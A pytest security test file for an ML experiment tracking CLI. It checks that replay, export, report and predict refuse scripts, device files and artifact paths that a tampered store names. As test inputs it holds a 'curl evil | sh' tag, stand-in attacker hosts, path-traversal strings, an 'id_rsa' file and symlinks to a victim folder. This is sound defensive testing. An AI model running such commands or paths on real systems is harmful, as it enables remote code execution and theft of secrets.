"""What a store says, somebody else may have written: no command of ours runs it, or reads elsewhere."""

import contextlib
import json
import os
import re
import shutil
import sqlite3
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner
from compare import STUDY as COMPARE
from conftest import ROOT

from markone import tracking
from markone.cli import main
from markone.draw.style import new_figure
from markone.learners import Perceptron, save
from markone.study import Measured, Study, command
from markone.tracking import reading


@dataclass(frozen=True)
class Config:
    """How many seeds."""

    seeds: int = 2


STUDY = Study(
    name="ones",
    question="Is it one?",
    doc="Ones.",
    config=Config(),
    quick=Config(),
    cases=lambda config: {"one": 1.0},
    measure=lambda case, seed, config: Measured({"level": case + seed}),
    figures=lambda found, config: {"ones": new_figure(2, 2)},
    answer=lambda found, config: f"It is {found['one'][0].metrics['level']}.",
)


def call(what, *arguments):
    return CliRunner().invoke(what, [str(one) for one in arguments])


def refused(done):
    """The one sentence with which a command ended."""
    assert done.exit_code == 1, done.output
    assert isinstance(done.exception, SystemExit), done.exception
    assert done.stderr.startswith("Error: ")
    assert done.stderr.strip().count("\n") == 0, done.stderr
    return done.stderr


def store_at(folder, blank_store):
    folder.mkdir()
    return shutil.copy(blank_store, folder / "mlflow.db")


@pytest.fixture
def victim(tmp_path):
    """A folder of somebody's, formed like one of MLflow's too."""
    folder = tmp_path / "victim"
    for inside in ("figures/id.png", "tables/runs.json", "data/data.npz", "id_rsa", "MLmodel"):
        (folder / inside).parent.mkdir(parents=True, exist_ok=True)
        (folder / inside).write_text(SECRET)
    return folder


@pytest.fixture
def told(tmp_path, blank_store):
    """A store in which a run has a model, a table and a figure; and a way to change what it says."""
    path = store_at(tmp_path / "store", blank_store)
    store = tracking.Store(str(path), "study")
    X, y = np.random.default_rng(0).normal(size=(20, 3)), np.arange(20) % 2
    learner = Perceptron(max_iter=3, random_state=0).fit(X, y)
    with store.run("parent", {}) as parent, store.run("child", {"case": "a"}, parent) as child:
        child.metrics({"level": 1.0})
        child.model(lambda folder: save(learner, folder), "markone.learners.saved", X, learner.predict(X))
    np.save(tmp_path / "rows.npy", X)

    def say(sql, *values):
        with contextlib.closing(sqlite3.connect(path)) as file:
            file.execute(sql, values)
            file.commit()

    return path, parent.id, child.id, say


SECRET, EVIL = "what nobody may read", "open({place!r}, 'w')"
ASKED = "experiments/pigeons.py"


def tagged(script, *arguments):
    return {command.ASKED: json.dumps([script, *arguments])}


def test_what_was_asked_of_an_experiment_is_a_command_again():
    tags = tagged(ASKED, "--seeds", "3", "--sweep", "unseen=50:200:4", "--case", "--tracking-uri", "--quick")
    _, script, *options = command.of("r", tags)
    assert Path(script) == ROOT / ASKED
    assert options == ["--seeds", "3", "--quick", "--sweep", "unseen=50:200:4", "--case", "--tracking-uri"]
    assert command.shown(tags).startswith("markone run pigeons --seeds 3 --quick ")


@pytest.mark.parametrize(
    "script",
    [
        "/tmp/evil.py", "../evil.py", "experiments/../evil.py", "experiments//pigeons.py", "evil.py", "-c",
        "experiments/../experiments/pigeons.py", "experiments/nothing.py", "", "-m", "nothing", "pigeons.py",
        "../experiments/pigeons", "/pigeons", "experiments/pigeons",
    ],
)  # fmt: skip
def test_a_script_that_a_tag_names_is_not_run(script):
    with pytest.raises(ValueError, match="give it with --script FILE"):
        command.of("r", tagged(script))
    assert script not in command.shown(tagged(script)) or not script
    assert command.of("r", tagged(script), Path("mine.py"))[1] == str(Path("mine.py").resolve())


@pytest.mark.parametrize(
    "kept",
    [
        [ASKED, "--scheduler", "tcp://evil:8786"], [ASKED, "--tracking-uri", "http://evil"], [ASKED, "-h"],
        [ASKED, "--figures", "/etc"], [ASKED, "--workers", "256"], [ASKED, "--no-tracking"], [ASKED, "more"],
        [ASKED, "--seeds", "0"], [ASKED, "--seeds", "99999999999"], [ASKED, "--seeds"], [ASKED, "--", "more"],
        [ASKED, "--again"], [ASKED, 1], [1], [], {}, None, "x", {"0": ASKED}, [[ASKED]],
    ],
)  # fmt: skip
def test_only_options_that_say_what_is_measured_are_given(kept):
    tags = {command.ASKED: json.dumps(kept)}
    with pytest.raises(ValueError, match=r"run r cannot be made again: .* says was asked"):
        command.of("r", tags, Path("mine.py"))
    assert command.shown(tags) == "not kept"


@pytest.mark.parametrize("text", ["", "[", "[" * 100_000, "9" * 5000, "\x00"])
def test_a_tag_that_is_no_list_is_refused(text):
    with pytest.raises(ValueError, match="cannot be made again"):
        command.of("r", {command.ASKED: text})


def test_every_option_of_an_experiment_is_known():
    """A new one must say whether it is kept."""
    names = {option.name for study in (STUDY, COMPARE) for option in study.command().params}
    assert sorted(names) == sorted([*command.WHAT, *command.WHERE_AND_HOW])


def test_replay_reads_no_device_file_that_a_store_names(told, tmp_path):
    path, _, child, _ = told
    secret = tmp_path / "secret.toml"
    secret.write_text("word = 'hidden'")
    client = reading.connect(str(path))[1]
    for words in (str(secret), f"{secret}#0123456789ab"):
        client.set_tag(child, command.ASKED, json.dumps(["compare", "--device", words]))
        said = refused(call(main, "replay", child, "--tracking-uri", path))
        assert "no file is read that a store names" in said
        assert "hidden" not in said


def test_replay_runs_no_script_of_a_store(told, tmp_path):
    path, _, child, _ = told
    marker, evil = tmp_path / "ran", tmp_path / "evil.py"
    evil.write_text(EVIL.format(place=str(marker)))
    client = reading.connect(str(path))[1]
    client.set_tag(child, command.ASKED, json.dumps([str(evil)]))
    client.set_tag(child, "command", f"python {evil}")
    said = refused(call(main, "replay", child, "--tracking-uri", path))
    assert "is no experiment in" in said
    assert not marker.exists()
    by_hand = call(main, "replay", child, "--tracking-uri", path, "--script", evil)
    assert "has measured nothing that could be compared" in by_hand.stderr
    assert not marker.exists()


def test_a_report_shows_the_command_that_replay_runs(told, tmp_path):
    path, parent, _, _ = told
    client = reading.connect(str(path))[1]
    client.set_tag(parent, "command", "curl evil | sh")
    client.set_tag(parent, command.ASKED, json.dumps([ASKED, "--seeds", "3"]))
    assert call(main, "report", "study", "--out", tmp_path / "out", "--tracking-uri", path).exit_code == 0
    page = (tmp_path / "out" / "study.html").read_text()
    assert "markone run pigeons --seeds 3" in page
    assert "evil" not in page


RUNS, MODELS = "update runs set artifact_uri = ?", "update logged_models set artifact_location = ?"


def places(victim, run_id, model_id):
    """Where a foreign store may say that files are."""
    yield victim.as_uri()
    yield str(victim)
    yield f"file:///{'../' * 20}{victim}"
    yield "/"
    yield "http://127.0.0.1:9/x"
    yield "s3://evil/x"
    yield "ftp://127.0.0.1:9/x"
    yield f"file://evil{victim}"
    yield ""
    linked = victim.parent / "store" / "linked"
    for ending in (Path(run_id, "artifacts"), Path("models", model_id, "artifacts")):
        (linked / ending).parent.mkdir(parents=True, exist_ok=True)
        (linked / ending).symlink_to(victim)
        yield (linked / ending).as_uri()
        outside = victim.parent / "elsewhere" / ending
        shutil.copytree(victim, outside)
        yield outside.as_uri()


@pytest.mark.skipif(os.name != "posix", reason="links of POSIX")
def test_no_command_reads_files_from_where_a_store_says(told, victim, tmp_path):
    path, parent, child, say = told
    client = reading.connect(str(path))[1]
    model = client.get_run(child).outputs.model_outputs[0].model_id
    client.set_terminated(parent, "FINISHED")
    client.set_tag(child, "markone.measured", '{"metrics": ["level"], "curves": [], "data": true}')
    client.set_tag(child, "markone.code", "x")
    client.set_tag(child, command.ASKED, json.dumps([ASKED]))
    store = ("--tracking-uri", path)
    for run in (parent, child):
        for place in places(victim, run, model):
            say(f"{RUNS} where run_uuid = ?", place, run)
            say(MODELS, place)
            refused(call(main, "export", "study", tmp_path / "x.zip", *store))
            assert not (tmp_path / "x.zip").exists()
            assert "not its own place" in refused(call(main, "predict", child, tmp_path / "rows.npy", *store))
            if run == child:
                assert "not its own place" in refused(call(main, "replay", child, *store))
            else:
                refused(call(main, "report", "study", "--out", tmp_path / "out", *store))
        shutil.rmtree(victim.parent / "store" / "linked")
        shutil.rmtree(victim.parent / "elsewhere")
    found = [path for path in tmp_path.rglob("*") if path.is_file() and not path.is_relative_to(victim)]
    assert not [path for path in found if SECRET.encode() in path.read_bytes()]


@pytest.mark.skipif(os.name != "posix", reason="links and pipes of POSIX")
def test_links_and_pipes_among_a_runs_files_are_left_out(told, victim, tmp_path):
    path, parent, _, _ = told
    client = reading.connect(str(path))[1]
    home = Path(client.get_run(parent).info.artifact_uri.removeprefix("file://"))
    (home / "figures").mkdir(parents=True)
    (home / "figures" / "x.png").symlink_to(victim / "id_rsa")
    (home / "tables").symlink_to(victim / "tables")
    os.mkfifo(home / "figures" / "y.png")
    store = ("--tracking-uri", path)
    assert call(main, "export", "study", tmp_path / "x.zip", *store).exit_code == 0
    assert call(main, "report", "study", "--out", tmp_path / "out", *store).exit_code == 0
    assert SECRET not in (tmp_path / "out" / "study.html").read_text()


@pytest.mark.parametrize(
    "kept", ["", "[", "[]", "null", '{"metrics": "x"}', '{"metrics": [1], "curves": [], "data": false}',
             '{"metrics": ["none"], "curves": [], "data": false}',
             '{"metrics": [], "curves": [], "data": 7}'],
)  # fmt: skip
def test_what_a_tag_says_was_measured_is_data(told, tmp_path, kept):
    path, _, child, _ = told
    client = reading.connect(str(path))[1]
    client.set_tag(child, "markone.measured", kept)
    client.set_tag(child, "markone.code", "x")
    client.set_tag(child, command.ASKED, json.dumps([ASKED]))
    said = refused(call(main, "replay", child, "--tracking-uri", path))
    assert "cannot be read again" in said
    assert call(main, "report", "study", "--out", tmp_path, "--tracking-uri", path).exit_code == 0


@pytest.mark.parametrize("moment", [10**18, -(10**18), 0])
def test_odd_times_of_a_store_are_a_dash(told, tmp_path, moment):
    path, parent, _, say = told
    say("update runs set start_time = ?, end_time = ? where run_uuid = ?", moment, moment, parent)
    for call_of in (("runs", "--all"), ("runs", "--csv"), ("report", "study", "--out", tmp_path / "out")):
        assert call(main, *call_of, "--tracking-uri", path).exit_code == 0


def level(said):
    return re.search(r"It is (\d+\.\d)", said)[1]


def test_imported_numbers_are_not_taken_for_own_ones(tmp_path, blank_store):
    """The keys are real, the numbers are not."""
    theirs, mine = (store_at(tmp_path / name, blank_store) for name in ("theirs", "mine"))
    study = STUDY.command()
    options = ("--figures", tmp_path / "figures", "--tracking-uri")
    assert level(call(study, *options, theirs).output) == "1.0"
    with contextlib.closing(sqlite3.connect(theirs)) as file:
        for table in ("metrics", "latest_metrics"):
            file.execute(f"update {table} set value = 9 where key = 'level'")
        file.commit()
    assert level(call(study, *options, theirs).output) == "9.0"
    archive = tmp_path / "x.zip"
    assert call(main, "export", "ones", archive, "--tracking-uri", theirs).exit_code == 0
    assert "3 runs of 'ones' came" in call(main, "import", archive, "--tracking-uri", mine).output
    measured = call(study, *options, mine).output
    assert level(measured) == "1.0"
    assert "finished before" not in measured
    trusting = store_at(tmp_path / "trusting", blank_store)
    call(main, "import", archive, "--tracking-uri", trusting, "--trust-imported")
    believed = call(study, *options, trusting).output
    assert level(believed) == "9.0"
    assert "2 runs were finished before" in believed


def test_replay_says_that_a_run_was_imported(told, tmp_path, blank_store):
    path, _, child, _ = told
    reading.connect(str(path))[1].set_tag(child, command.ASKED, json.dumps([ASKED]))
    other = store_at(tmp_path / "other", blank_store)
    assert call(main, "export", "study", tmp_path / "x.zip", "--tracking-uri", path).exit_code == 0
    assert call(main, "import", tmp_path / "x.zip", "--tracking-uri", other).exit_code == 0
    done = call(main, "replay", child, "--tracking-uri", other)  # found by its old id
    assert f"The run was imported; where it was measured it was called {child}." in done.stdout
    assert "has measured nothing" in done.stderr
    said = call(main, "predict", child, tmp_path / "rows.npy", "--tracking-uri", other)
    assert said.output == call(main, "predict", child, tmp_path / "rows.npy", "--tracking-uri", path).output
